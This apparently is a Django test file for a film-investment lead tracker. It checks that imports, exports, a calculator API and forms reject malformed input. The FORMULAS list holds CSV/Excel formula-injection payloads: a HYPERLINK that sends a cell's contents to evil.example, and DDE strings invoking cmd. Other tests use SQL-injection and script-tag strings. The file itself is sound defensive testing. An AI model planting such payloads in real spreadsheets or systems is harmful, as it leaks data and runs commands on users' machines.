"""Bad input wherever a person or a file can send it: each gets a clear message and leaves the data as it was.

Covers what exists in the tree: the lead import (XLSX/CSV), the lead export (formula injection), the
calculator API, the lead transition forms and the login form. Upload checks are in test_uploads.py.
"""

from __future__ import annotations

import io
import json
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from rest_framework.test import APIClient

from companies.investment import workflow
from companies.investment.exporting import pipeline_workbook
from companies.investment.forms import transition_form_class
from companies.investment.importing import ImportFileError, import_leads
from companies.investment.models import Lead

from .files import xlsx_bytes

pytestmark = pytest.mark.django_db

# Findings in other developers' code, recorded as strict xfails: each turns into a failure ("XPASS") when
# fixed, so the marker is removed then. Reported to the lead; see docs/security.md.
FINDING_HEADERS_ONLY = "investment import: a file with only a header row reports 0 created with no message"
FINDING_CONTROL_CHARS = "investment import: NUL and other control characters are stored in lead names and notes"
FINDING_EXPONENT = "investment import: 1e400 gives '[<class decimal.InvalidOperation>]' with no column"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    text = "\r\n".join(",".join('"' + str(c).replace('"', '""') + '"' for c in row) for row in rows) + "\r\n"
    return text.encode(encoding)


class TestLeadImportFiles:
    @pytest.mark.parametrize("filename", ["线索.csv", "线索.xlsx"])
    def test_zero_byte_file(self, filename):
        with pytest.raises(ImportFileError) as exc:
            import_leads(b"", filename)
        assert "请" in str(exc.value)
        assert Lead.objects.count() == 0

    def test_csv_with_only_blank_lines(self):
        with pytest.raises(ImportFileError) as exc:
            import_leads(b"\r\n\r\n  \r\n", "线索.csv")
        assert "空" in str(exc.value)

    @pytest.mark.parametrize(
        ("filename", "data"),
        [
            ("线索.csv", csv_bytes([["线索名称", "联系人", "备注"]])),
            ("线索.csv", csv_bytes([["线索名称", "联系人", "备注"]], "utf-8-sig")),
            ("线索.xlsx", xlsx_bytes([["线索名称", "联系人", "备注"]])),
        ],
        ids=["csv", "csv-bom", "xlsx"],
    )
    def test_file_with_only_headers_writes_nothing(self, filename, data):
        report = import_leads(data, filename)
        assert report.rows == 0 and report.created == 0 and not report.written
        assert Lead.objects.count() == 0

    @pytest.mark.parametrize(
        ("filename", "data"),
        [
            ("线索.csv", csv_bytes([["线索名称", "联系人", "备注"]])),
            ("线索.xlsx", xlsx_bytes([["线索名称", "联系人"]])),
        ],
        ids=["csv", "xlsx"],
    )
    def test_file_with_only_headers_says_it_has_no_rows(self, filename, data):
        report = import_leads(data, filename)
        # The person must be told that the file had no rows, not just shown "0 created".
        messages = " ".join(e.reason for e in report.errors)
        assert "没有" in messages or "空" in messages, report.as_dict()

    def test_truncated_xlsx_is_refused(self):
        data = xlsx_bytes([["线索名称"], ["某影视公司"]])
        with pytest.raises(ImportFileError) as exc:
            import_leads(data[: len(data) // 2], "线索.xlsx")
        assert "XLSX" in str(exc.value) and "另存为" in str(exc.value)
        assert Lead.objects.count() == 0

    def test_file_that_is_not_a_spreadsheet_is_refused(self):
        with pytest.raises(ImportFileError):
            import_leads(b"%PDF-1.4\n" + bytes(range(256)) * 4, "线索.xlsx")
        assert Lead.objects.count() == 0

    @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16"])
    def test_csv_in_the_encodings_excel_writes_is_read_correctly(self, encoding):
        report = import_leads(
            csv_bytes([["线索名称", "备注"], ["重庆江津影视文化有限公司", "白沙影视城"]], encoding), "a.csv"
        )
        assert report.written, report.as_dict()
        assert Lead.objects.get().name == "重庆江津影视文化有限公司"

    @pytest.mark.parametrize(
        "data",
        [
            "线索名称\r\n江津\r\n".encode("utf-32")[4:],  # UTF-32 without its BOM
            "线索名称\r\n江津\r\n".encode("utf-16-le"),  # UTF-16 without its BOM
            b"\xff\xfe\xfd" * 50,  # not text at all
        ],
        ids=["utf-32-no-bom", "utf-16-no-bom", "binary"],
    )
    def test_csv_in_an_unreadable_encoding_writes_nothing_and_says_why(self, data):
        try:
            report = import_leads(data, "a.csv")
        except ImportFileError as exc:
            assert "请" in str(exc)
        else:
            assert not report.written and report.errors
            assert "请" in " ".join(e.reason for e in report.errors) or "例如" in report.errors[0].reason
        assert Lead.objects.count() == 0

    def test_csv_in_big5_is_not_imported_as_mojibake(self):
        data = csv_bytes([["name", "notes"], ["江津影視文化有限公司", "白沙影視城"]], "big5")
        try:
            import_leads(data, "a.csv")
        except ImportFileError:
            return
        assert not Lead.objects.exists() or Lead.objects.get().name == "江津影視文化有限公司"


class TestLeadImportCells:
    @pytest.mark.parametrize("text", ["\x00江津影视", "江津\x00影视", "江津\x1b[31m影视", "江津\x07影视"])
    def test_control_characters_never_reach_the_database(self, text):
        report = import_leads(csv_bytes([["线索名称", "备注"], [text, text]]), "a.csv")
        for lead in Lead.objects.all():
            assert "\x00" not in lead.name + lead.notes
            assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in lead.name + lead.notes)
        if not report.written:
            assert report.errors and "请" in " ".join(e.reason for e in report.errors)

    def test_over_long_text_is_refused_naming_row_and_column(self):
        report = import_leads(csv_bytes([["线索名称"], ["影" * 201]]), "a.csv")
        assert not report.written
        assert report.errors[0].row == 2 and report.errors[0].column == "线索名称"
        assert Lead.objects.count() == 0

    @pytest.mark.parametrize("amount", ["-1", "-0.01", "NaN", "Infinity", "-Infinity", "abc", "0x10", "1e400"])
    def test_wrong_negative_or_absurd_amounts_are_refused(self, amount):
        report = import_leads(csv_bytes([["线索名称", "预计投资额（元）"], ["某影视公司", amount]]), "a.csv")
        assert not report.written, report.as_dict()
        assert report.errors[0].row == 2
        assert Lead.objects.count() == 0

    def test_amount_with_a_huge_exponent_is_refused_naming_the_column(self):
        report = import_leads(csv_bytes([["线索名称", "预计投资额（元）"], ["某影视公司", "1e400"]]), "a.csv")
        assert "预计投资额" in report.errors[0].column
        assert "class" not in report.errors[0].reason

    def test_absurdly_large_amount_is_refused(self):
        report = import_leads(csv_bytes([["线索名称", "预计投资额（元）"], ["某影视公司", "9" * 40]]), "a.csv")
        assert not report.written
        assert Lead.objects.count() == 0

    def test_one_bad_row_leaves_the_data_as_it_was(self):
        rows = [["线索名称", "预计投资额（元）"], ["好公司", "100"], ["坏公司", "-5"]]
        report = import_leads(csv_bytes(rows), "a.csv")
        assert not report.written and Lead.objects.count() == 0


class TestFormulaInjection:
    @pytest.mark.parametrize(
        "payload",
        FORMULAS,
    )
    def test_imported_formula_is_exported_as_text_not_as_a_formula(self, payload):
        report = import_leads(csv_bytes([["线索名称", "备注"], [payload, payload]]), "a.csv")
        if not report.written:
            assert report.errors and "请" in " ".join(e.reason for e in report.errors)
            return
        book = openpyxl.load_workbook(io.BytesIO(pipeline_workbook(Lead.objects.all())))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"

    def test_formula_cells_in_an_imported_xlsx_are_not_executed_or_kept_as_formulas(self):
        book = openpyxl.Workbook()
        book.active.append(["线索名称", "备注"])
        book.active.append(["某影视公司", '=HYPERLINK("http://evil.example","x")'])
        buffer = io.BytesIO()
        book.save(buffer)
        report = import_leads(buffer.getvalue(), "a.xlsx")
        for lead in Lead.objects.all():
            assert not lead.notes.startswith("=")
        assert report.written or report.errors


class TestCalculatorApi:
    @pytest.fixture
    def api(self):
        call_command("seed_policies", verbosity=0)
        return APIClient()

    def calc(self, api, facts, item="JJ-FILM-01"):
        return api.post("/api/v1/calculator/", {"item": item, "facts": facts}, format="json")

    @pytest.mark.parametrize(
        "facts",
        [
            {"local_spend": "1e400", "shooting_days_in_jiangjin": 20, "has_filing": True},
            {"local_spend": "9" * 60, "shooting_days_in_jiangjin": 20, "has_filing": True},
            {"local_spend": "NaN", "shooting_days_in_jiangjin": 20, "has_filing": True},
            {"local_spend": "Infinity", "shooting_days_in_jiangjin": 20, "has_filing": True},
            {"local_spend": "五十万", "shooting_days_in_jiangjin": 20, "has_filing": True},
            {"local_spend": [1, 2], "shooting_days_in_jiangjin": 20, "has_filing": True},
            {"local_spend": {"a": 1}, "shooting_days_in_jiangjin": 20, "has_filing": True},
            {"local_spend": 600000, "shooting_days_in_jiangjin": 20, "has_filing": "也许"},
            {"local_spend": "600000\x00", "shooting_days_in_jiangjin": 20, "has_filing": True},
        ],
    )
    def test_bad_facts_get_400_naming_the_field(self, api, facts):
        response = self.calc(api, facts)
        assert response.status_code == 400, response.content
        body = response.json()
        assert body["code"] and body["detail"]
        assert "facts" in body.get("fields", {}) or any(
            "local_spend" in k or "shooting" in k for k in body.get("fields", {})
        )

    @pytest.mark.parametrize(
        "facts",
        [
            {"local_spend": -500000, "shooting_days_in_jiangjin": 20, "has_filing": True},
            {"local_spend": 600000, "shooting_days_in_jiangjin": -3, "has_filing": True},
            {"local_spend": 600000, "shooting_days_in_jiangjin": 1.5, "has_filing": True},
            {"local_spend": 600000, "shooting_days_in_jiangjin": 10**20, "has_filing": True},
        ],
        ids=["negative-spend", "negative-days", "fractional-days", "absurd-days"],
    )
    def test_negative_fractional_or_absurd_facts_are_refused(self, api, facts):
        assert self.calc(api, facts).status_code == 400

    @pytest.mark.parametrize("payload", ["not json", "[1,2,3]", '{"item": "JJ-FILM-01", "facts": "x"}', "{" * 5000])
    def test_malformed_bodies_get_400(self, api, payload):
        response = api.post("/api/v1/calculator/", payload, content_type="application/json")
        assert response.status_code == 400
        assert response.json()["detail"]

    @pytest.mark.parametrize(
        ("item", "status"), [("", 400), ("X" * 10000, 400), ("JJ-FILM-01\x00", 400), ("<script>alert(1)</script>", 404)]
    )
    def test_bad_item_codes_get_400(self, api, item, status):
        """Malformed: 400; well-formed but no such item: 404 (issue 14 item 8: a schema-valid request is no 400)."""
        response = self.calc(api, {}, item=item)
        assert response.status_code == status
        assert "<script>" not in response.content.decode() or response["Content-Type"].startswith("application/json")


class TestLeadForms:
    @pytest.mark.parametrize("amount", ["-1", "1e20", "NaN", "Infinity", "abc", "1" * 30, "0.001"])
    def test_sign_agreement_refuses_bad_amounts(self, amount):
        form = transition_form_class(workflow.BY_KEY["sign_agreement"])(
            data={"committed_investment": amount, "transition": "sign_agreement", "state_seen": "negotiating"}
        )
        assert not form.is_valid()
        assert "committed_investment" in form.errors

    @pytest.mark.parametrize("day", ["2026-02-30", "0000-01-01", "99999-01-01", "昨天"])
    def test_impossible_dates_are_refused(self, day):
        form = transition_form_class(workflow.BY_KEY["contact"])(
            data={"on": day, "transition": "contact", "state_seen": "new"}
        )
        assert not form.is_valid()
        assert "on" in form.errors

    def test_text_with_null_character_is_refused(self):
        form = transition_form_class(workflow.BY_KEY["contact"])(
            data={"comment": "正常\x00说明", "transition": "contact", "state_seen": "new"}
        )
        assert not form.is_valid()


class TestLoginForm:
    @pytest.mark.parametrize(
        "username", ["a" * 10000, "admin\x00", "' OR 1=1 --", "<script>alert(1)</script>", "\u202eadmin"]
    )
    def test_odd_user_names_get_the_form_again_not_an_error(self, client, username):
        response = client.post("/accounts/login/", {"username": username, "password": "x"})
        assert response.status_code == 200
        assert "<script>alert(1)</script>" not in response.content.decode()
        assert "_auth_user_id" not in client.session


def test_amount_in_capitals_input_types(db):
    from applications.documents.money import amount_in_capitals

    assert amount_in_capitals(Decimal("1000000")) == "壹佰万元整"
    assert amount_in_capitals("10.00") == "壹拾元整"
    assert json.dumps(amount_in_capitals(0), ensure_ascii=False) == '"零元整"'
